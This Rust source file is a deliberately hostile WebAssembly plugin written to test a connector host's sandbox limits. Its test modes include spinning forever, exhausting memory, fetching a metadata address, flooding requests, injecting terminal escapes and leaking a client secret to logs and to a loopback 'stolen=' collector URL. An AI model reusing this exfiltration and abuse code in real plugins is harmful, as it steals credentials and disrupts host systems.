//! A hostile test plugin. `sync` misbehaves as its `mode` setting says:
//!
//! - `loop`: spins forever (the host's deadline must stop it);
//! - `allocate`: grows memory without bound (the memory limit must stop it);
//! - `panic`: panics (a trap; the message must reach the run's error);
//! - `environment`: reports any environment variable or argument it can see (there must
//!   be none);
//! - `fetch`: fetches its `api-url` (a link-local metadata address must be refused even
//!   though the config names it);
//! - `fetch-target`: fetches its `target` setting, a text field and so not a host the
//!   plugin may call (the host must refuse it);
//! - `post-target`: POSTs a 256 KiB body to its `target` setting (the refusal must reach
//!   it as `HTTP-request-denied`, not as a broken body stream);
//! - `malformed`: emits one batch mixing good records with broken ones;
//! - `unknown-enum`: emits a good batch, then a finding whose severity is out of range
//!   (the host must fail the run and keep the good batch);
//! - `flood`: emits batches without end (the per-run ceilings must stop it);
//! - `checkpoint-after-refusal`: emits a batch and checkpoints after it, then floods until
//!   `emit` answers false and checkpoints again (the host must keep the first); run again,
//!   it fails naming the checkpoint it was given;
//! - `big-batches`: emits `count` batches of 16 MiB each (the host must bound the bytes
//!   it holds for a run however slow its store);
//! - `chatter`: writes 1 MiB to stderr, then panics (the panic must reach the error);
//! - `refused-flood`: sends `count` requests to its `target` setting, which is no host it
//!   may reach (the host's bookkeeping of refusals must stay small);
//! - `escape`: emits a finding whose title and asset name carry terminal escape
//!   sequences (the host's tables must show them, not send them);
//! - `exfil`: sends a request to its `exfil-url` setting, or to [`EXFIL_URL`] when it
//!   has none (the host must not let a plugin's own default choose its egress);
//! - `request-flood`: opens `count` requests to its `api-url` at once, without waiting
//!   for any (the host must keep few in flight and pace them);
//! - `drop-requests`: starts `count` requests to its `api-url` and drops each a moment
//!   later, then times one more (a dropped request must leave no slot of the host's
//!   shared pace booked);
//! - `fields-flood`: creates header maps without end, each holding a 16 KiB header,
//!   and keeps every one (the host must cap what it holds for a plugin);
//! - `leak`: in `test-connection` and `sync`, logs its `client-secret` raw, JSON-escaped
//!   and percent-encoded, writes it to stderr, puts it in a request path, and fails with
//!   it in the error and the steps' names and details (the host must scrub every form
//!   everywhere);
//! - `leak-panic`: the same, but panics with the secret instead of failing.
//!
//! Built with the feature `upgraded`, it is version 0.2.0, declares `exfil-url` with
//! [`EXFIL_URL`] as its default (an upgrade that adds a host of its own choosing) and
//! re-declares `client-secret` as plain text (an upgrade that would unmask a secret).
//! With `spinning-describe`, its `describe` never returns.
#![cfg(target_arch = "wasm32")]

mod wit {
    wit_bindgen::generate!({ path: "../../../wit/0.1.0", world: "connector" });
}

use wit::exports::safe::connector::plugin::Guest;
use wit::safe::connector::types as t;

struct Hostile;

/// Where `exfil` sends the secret: a loopback port the e2e test listens on as a
/// bystander.
const EXFIL_URL: &str = "http://127.0.0.1:47291/collect";

fn asset(id: &str) -> t::Asset {
    t::Asset {
        source_id: id.into(),
        name: format!("asset {id}"),
        asset_type: "Test".into(),
        cloud_platform: "AWS".into(),
        cloud_account_id: None,
        cloud_account_name: None,
        region: None,
        provider_id: None,
        tags: vec![],
        status: None,
        technologies: vec![],
        raw: "{}".into(),
    }
}

fn finding(id: &str, asset: &str, title: &str) -> t::Finding {
    t::Finding {
        source_id: id.into(),
        asset_source_id: asset.into(),
        title: title.into(),
        description: String::new(),
        severity: t::Severity::Low,
        status: t::FindingStatus::Failed,
        source_status: "OPEN".into(),
        remediation: None,
        rule_id: None,
        rule_name: None,
        created_at: None,
        updated_at: None,
        status_changed_at: None,
        resolved_at: None,
        due_at: None,
        project_ids: vec![],
        portal_url: None,
        raw: "{}".into(),
    }
}

fn field(key: &str, kind: t::FieldKind, required: bool) -> t::ConfigField {
    t::ConfigField {
        key: key.into(),
        label: key.into(),
        help: String::new(),
        kind,
        required,
        default_value: None,
        min: None,
        max: None,
    }
}

fn setting(config: &[t::ConfigEntry], key: &str) -> String {
    config
        .iter()
        .find(|e| e.key == key)
        .map(|e| e.value.clone())
        .unwrap_or_default()
}

impl Guest for Hostile {
    fn describe() -> t::PluginInfo {
        if cfg!(feature = "spinning-describe") {
            spin();
        }
        let mut config_schema = vec![
            field("api-url", t::FieldKind::Url, true),
            field("mode", t::FieldKind::Text, true),
            field("target", t::FieldKind::Text, false),
            field("count", t::FieldKind::Number, false),
            field(
                "client-secret",
                if cfg!(feature = "upgraded") {
                    t::FieldKind::Text
                } else {
                    t::FieldKind::Secret
                },
                false,
            ),
        ];
        if cfg!(feature = "upgraded") {
            config_schema.push(t::ConfigField {
                default_value: Some(EXFIL_URL.into()),
                ..field("exfil-url", t::FieldKind::Url, false)
            });
        }
        t::PluginInfo {
            name: "hostile".into(),
            version: if cfg!(feature = "upgraded") {
                "0.2.0"
            } else {
                "0.1.0"
            }
            .into(),
            contract_version: "0.1.0".into(),
            config_schema,
        }
    }

    fn test_connection(
        config: Vec<t::ConfigEntry>,
    ) -> Result<Vec<t::CheckStep>, t::ConnectionFailure> {
        let mode = setting(&config, "mode");
        if !mode.starts_with("leak") {
            return Ok(vec![]);
        }
        let forms = leak(&config, &mode);
        Err(t::ConnectionFailure {
            error: t::ConnectorError::Auth(format!("the token endpoint refused {forms}")),
            steps: vec![t::CheckStep {
                name: format!("token {forms}"),
                outcome: t::CheckOutcome::Failed,
                detail: format!("sent {forms}"),
            }],
        })
    }

    fn sync(
        config: Vec<t::ConfigEntry>,
        state: Option<String>,
    ) -> Result<t::SyncSummary, t::ConnectorError> {
        match setting(&config, "mode").as_str() {
            "loop" => spin(),
            "allocate" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 16 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "panic" => panic!("hostile plugin panicked on purpose"),
            "environment" => {
                let seen: Vec<String> = std::env::vars()
                    .map(|(k, _)| k)
                    .chain(std::env::args())
                    .collect();
                if seen.is_empty() {
                    Err(t::ConnectorError::Internal(
                        "sandbox held: no environment, no arguments".into(),
                    ))
                } else {
                    Err(t::ConnectorError::Internal(format!(
                        "escaped: saw {seen:?}"
                    )))
                }
            }
            mode @ ("fetch" | "fetch-target" | "exfil") => {
                let url = match mode {
                    "fetch" => setting(&config, "api-url"),
                    "fetch-target" => setting(&config, "target"),
                    _ => Some(setting(&config, "exfil-url"))
                        .filter(|u| !u.is_empty())
                        .unwrap_or_else(|| EXFIL_URL.into()),
                };
                let shown = url.clone();
                let secret = setting(&config, "client-secret");
                let outcome = wstd::runtime::block_on(get(format!("{url}?stolen={secret}")));
                match outcome {
                    Ok(status) => Err(t::ConnectorError::Internal(format!(
                        "request to {shown} went through with HTTP {status}"
                    ))),
                    Err(e) => Err(t::ConnectorError::Transient(format!(
                        "request to {shown} failed: {e}"
                    ))),
                }
            }
            "post-target" => {
                // A POST with a body, as a token request is: the refusal must come back
                // as the answer (HTTP-request-denied), not as a body stream that broke.
                let url = setting(&config, "target");
                match wstd::runtime::block_on(post(url.clone(), vec![b'x'; 256 * 1024])) {
                    Ok(status) => Err(t::ConnectorError::Internal(format!(
                        "request to {url} went through with HTTP {status}"
                    ))),
                    Err(e) => Err(t::ConnectorError::Transient(format!(
                        "request to {url} failed: {e}"
                    ))),
                }
            }
            "malformed" => {
                let batch = t::Batch {
                    assets: vec![asset("good-asset"), asset("")],
                    findings: vec![
                        finding("good-finding", "good-asset", "fine"),
                        finding("", "good-asset", "no id"),
                        finding("orphan", "never-emitted", "no such asset"),
                        finding("huge", "good-asset", &"x".repeat(1 << 20)),
                    ],
                    removed_findings: vec![],
                };
                wit::safe::connector::host::emit(&batch);
                Ok(t::SyncSummary {
                    assets: 2,
                    findings: 4,
                    skipped: 0,
                    full: false,
                    warnings: vec![],
                })
            }
            "unknown-enum" => {
                let good = t::Batch {
                    assets: vec![asset("good-asset")],
                    findings: vec![finding("good-finding", "good-asset", "fine")],
                    removed_findings: vec![],
                };
                wit::safe::connector::host::emit(&good);
                emit_unknown_severity();
                Err(t::ConnectorError::Internal(
                    "the host accepted a severity that is not in the contract".into(),
                ))
            }
            "flood" => {
                for page in 0u64.. {
                    let findings = (0..1000)
                        .map(|i| finding(&format!("f-{page}-{i}"), "good-asset", "flood"))
                        .collect();
                    let batch = t::Batch {
                        assets: vec![asset("good-asset")],
                        findings,
                        removed_findings: vec![],
                    };
                    if !wit::safe::connector::host::emit(&batch) {
                        return Err(t::ConnectorError::Internal(
                            "the host stopped the flood".into(),
                        ));
                    }
                }
                unreachable!("the loop only ends by returning")
            }
            "big-batches" => {
                // `count` batches of 16 MiB each, as fast as `emit` takes them.
                let count: u64 = setting(&config, "count").parse().unwrap_or(24);
                for page in 0..count {
                    let assets = (0..16)
                        .map(|i| t::Asset {
                            raw: "x".repeat(1 << 20),
                            ..asset(&format!("big-{page}-{i}"))
                        })
                        .collect();
                    let batch = t::Batch {
                        assets,
                        findings: vec![],
                        removed_findings: vec![],
                    };
                    if !wit::safe::connector::host::emit(&batch) {
                        return Err(t::ConnectorError::Internal(
                            "the host refused a big batch".into(),
                        ));
                    }
                }
                Ok(t::SyncSummary {
                    assets: count * 16,
                    findings: 0,
                    skipped: 0,
                    full: true,
                    warnings: vec![],
                })
            }
            "checkpoint-after-refusal" => {
                if let Some(state) = state {
                    return Err(t::ConnectorError::Internal(format!(
                        "resumed from checkpoint `{state}`"
                    )));
                }
                let first = t::Batch {
                    assets: vec![asset("good-asset")],
                    findings: vec![finding("good-finding", "good-asset", "fine")],
                    removed_findings: vec![],
                };
                wit::safe::connector::host::emit(&first);
                wit::safe::connector::host::checkpoint("after-the-stored-batch");
                for page in 0u64.. {
                    let batch = t::Batch {
                        assets: vec![],
                        findings: (0..100)
                            .map(|i| finding(&format!("f-{page}-{i}"), "good-asset", "more"))
                            .collect(),
                        removed_findings: vec![],
                    };
                    if !wit::safe::connector::host::emit(&batch) {
                        break;
                    }
                }
                wit::safe::connector::host::checkpoint("after-a-refused-batch");
                Ok(t::SyncSummary {
                    assets: 1,
                    findings: 1,
                    skipped: 0,
                    full: false,
                    warnings: vec![],
                })
            }
            "escape" => {
                let mut shady = asset("shady-asset");
                shady.name = "\u{1b}[2J\u{1b}[Hcleared".into();
                let batch = t::Batch {
                    assets: vec![shady],
                    findings: vec![finding(
                        "shady-finding",
                        "shady-asset",
                        "\u{1b}]0;window title\u{7}\u{1b}[31mred\u{9b}",
                    )],
                    removed_findings: vec![],
                };
                wit::safe::connector::host::emit(&batch);
                Ok(t::SyncSummary {
                    assets: 1,
                    findings: 1,
                    skipped: 0,
                    full: true,
                    warnings: vec!["\u{1b}[1Awarning that moves the cursor".into()],
                })
            }
            "chatter" => {
                let line = "chatter ".repeat(127) + "\n";
                for _ in 0..1024 {
                    eprint!("{line}");
                }
                panic!("hostile plugin panicked after 1 MiB of chatter")
            }
            "refused-flood" => {
                let url = setting(&config, "target");
                let count: u64 = setting(&config, "count").parse().unwrap_or(1000);
                let refused = wstd::runtime::block_on(async move {
                    let mut refused = 0u64;
                    for _ in 0..count {
                        refused += u64::from(get(url.clone()).await.is_err());
                    }
                    refused
                });
                Err(t::ConnectorError::Transient(format!(
                    "{refused} of {count} requests refused"
                )))
            }
            "request-flood" => {
                let count: u64 = setting(&config, "count").parse().unwrap_or(100);
                let api_url = setting(&config, "api-url");
                let authority = api_url
                    .trim_start_matches("http://")
                    .split('/')
                    .next()
                    .unwrap_or_default();
                Err(t::ConnectorError::Transient(flood_requests(
                    authority, count,
                )))
            }
            "drop-requests" => {
                let count: u64 = setting(&config, "count").parse().unwrap_or(10_000);
                let api_url = setting(&config, "api-url");
                Err(t::ConnectorError::Transient(drop_then_time(
                    &api_url, count,
                )))
            }
            "fields-flood" => {
                use wasip2::http::types::Fields;
                let value = vec![b'v'; 16 * 1024];
                for made in 0u64.. {
                    let fields = Fields::new();
                    if fields.append("x-flood", &value).is_err() {
                        return Err(t::ConnectorError::Internal(format!(
                            "header refused after {made} maps"
                        )));
                    }
                    std::mem::forget(fields);
                }
                unreachable!("the loop only ends by returning or trapping")
            }
            mode @ ("leak" | "leak-panic") => {
                let forms = leak(&config, mode);
                Err(t::ConnectorError::Auth(format!("refused {forms}")))
            }
            other => Err(t::ConnectorError::Config(format!("unknown mode `{other}`"))),
        }
    }
}

/// Opens `count` plain-HTTP GETs to `authority` before waiting for any, as wasi:http
/// allows; then waits for each. Says how many were answered.
fn flood_requests(authority: &str, count: u64) -> String {
    use wasip2::http::{outgoing_handler, types};
    let pending: Vec<_> = (0..count)
        .filter_map(|i| {
            let request = types::OutgoingRequest::new(types::Fields::new());
            request.set_scheme(Some(&types::Scheme::Http)).ok()?;
            request.set_authority(Some(authority)).ok()?;
            request
                .set_path_with_query(Some(&format!("/flood/{i}")))
                .ok()?;
            outgoing_handler::handle(request, None).ok()
        })
        .collect();
    let sent = pending.len();
    let answered = pending
        .iter()
        .filter(|response| {
            response.subscribe().block();
            matches!(response.get(), Some(Ok(Ok(_))))
        })
        .count();
    format!("{answered} of {sent} flooded requests answered")
}

/// Starts `count` GETs to `api_url`, each dropped a millisecond after it started (the
/// host has begun on it by then), then times one more that is waited for.
fn drop_then_time(api_url: &str, count: u64) -> String {
    use wasip2::clocks::monotonic_clock;
    use wasip2::http::{outgoing_handler, types};
    let authority = api_url
        .trim_start_matches("http://")
        .split('/')
        .next()
        .unwrap_or_default();
    for i in 0..count {
        let request = types::OutgoingRequest::new(types::Fields::new());
        let _ = request.set_scheme(Some(&types::Scheme::Http));
        let _ = request.set_authority(Some(authority));
        let _ = request.set_path_with_query(Some(&format!("/dropped/{i}")));
        if let Ok(response) = outgoing_handler::handle(request, None) {
            let a_moment = monotonic_clock::subscribe_duration(1_000_000);
            wasip2::io::poll::poll(&[&response.subscribe(), &a_moment]);
            drop(response);
        }
    }
    let start = monotonic_clock::now();
    let answer = wstd::runtime::block_on(get(format!("{api_url}/timed")));
    let took_ms = (monotonic_clock::now() - start) / 1_000_000;
    format!("after {count} dropped requests, one more took {took_ms} ms ({answer:?})")
}

/// Spreads the `client-secret` setting everywhere a plugin can write text: log lines at
/// each level, stderr and a request path (to `api-url`). Panics with it in `leak-panic`
/// mode; otherwise returns its forms, for the caller's error.
fn leak(config: &[t::ConfigEntry], mode: &str) -> String {
    let secret = setting(config, "client-secret");
    let forms = format!(
        "raw `{secret}` json `{}` url `{}`",
        json_escaped(&secret),
        percent_encoded(&secret)
    );
    use wit::safe::connector::host::log;
    for level in [
        t::LogLevel::Trace,
        t::LogLevel::Debug,
        t::LogLevel::Info,
        t::LogLevel::Warn,
        t::LogLevel::Error,
    ] {
        log(level, &format!("leaking {forms}"));
    }
    eprintln!("stderr leaking {forms}");
    let path = format!(
        "{}/{}",
        setting(config, "api-url"),
        percent_encoded(&secret)
    );
    let _ = wstd::runtime::block_on(get(path));
    if mode == "leak-panic" {
        panic!("panicking with {forms}");
    }
    forms
}

/// `text` as it appears inside a JSON string.
fn json_escaped(text: &str) -> String {
    text.chars().fold(String::new(), |mut out, c| {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if c.is_control() => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
        out
    })
}

/// `text` percent-encoded, keeping only RFC 3986's unreserved characters.
fn percent_encoded(text: &str) -> String {
    text.bytes().fold(String::new(), |mut out, b| {
        if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
            out.push(char::from(b));
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
        out
    })
}

/// Runs forever.
fn spin() -> ! {
    let mut n: u64 = 0;
    loop {
        n = std::hint::black_box(n.wrapping_add(1));
    }
}

/// GETs `url`; its status, or why it failed.
async fn get(url: String) -> Result<u16, String> {
    send(
        wstd::http::Request::get(&url)
            .body(())
            .map_err(|e| e.to_string())?,
    )
    .await
}

/// POSTs `body` to `url`; its status, or why it failed.
async fn post(url: String, body: Vec<u8>) -> Result<u16, String> {
    let request = wstd::http::Request::post(&url)
        .header("content-length", body.len())
        .body(body)
        .map_err(|e| e.to_string())?;
    send(request).await
}

/// Sends `request`; its status, or the error as the host gave it (debug form, so the
/// wasi:http error code shows).
async fn send<B: Into<wstd::http::Body>>(request: wstd::http::Request<B>) -> Result<u16, String> {
    wstd::http::Client::new()
        .send(request)
        .await
        .map(|r| r.status().as_u16())
        .map_err(|e| format!("{e:?}"))
}

/// Emits one finding whose `severity` discriminant is 7, which no contract enum case has.
/// wit-bindgen's types cannot express that, so the finding is laid out by hand in the
/// canonical ABI (wasm32: a string is pointer and length, an `option<string>` is a tag
/// byte then a string at offset 4, an enum is one byte) and passed to the raw import.
fn emit_unknown_severity() -> bool {
    #[link(wasm_import_module = "safe:connector/host@0.1.0")]
    unsafe extern "C" {
        #[link_name = "emit"]
        fn raw_emit(
            assets: *const u8,
            assets_len: usize,
            findings: *const u8,
            findings_len: usize,
            removed: *const u8,
            removed_len: usize,
        ) -> i32;
    }
    #[repr(C, align(4))]
    struct Finding([u8; 168]);
    let mut finding = Finding([0; 168]);
    let mut put = |offset: usize, value: u32| {
        finding.0[offset..offset + 4].copy_from_slice(&value.to_le_bytes());
    };
    let strings: [(usize, &'static str); 6] = [
        (0, "bad-enum"),          // source-id
        (8, "good-asset"),        // asset-source-id
        (16, "unknown severity"), // title
        (24, ""),                 // description
        (36, "OPEN"),             // source-status
        (160, "{}"),              // raw
    ];
    for (offset, text) in strings {
        put(offset, text.as_ptr() as u32);
        put(offset + 4, text.len() as u32);
    }
    // project-ids (offset 140): an empty list at an aligned address.
    put(140, 4);
    // Every option<string> (remediation .. due-at, portal-url) stays 0: none.
    finding.0[32] = 7; // severity: out of range (the contract has 5 cases)
    finding.0[33] = 0; // status: failed
    let at = finding.0.as_ptr();
    // SAFETY: the import is the contract's `emit`; the memory passed stays alive for the
    // call, and the host reads it as the canonical ABI says. The empty lists point at an
    // aligned address too, as the ABI requires.
    unsafe { raw_emit(at, 0, at, 1, at, 0) != 0 }
}

wit::export!(Hostile with_types_in wit);
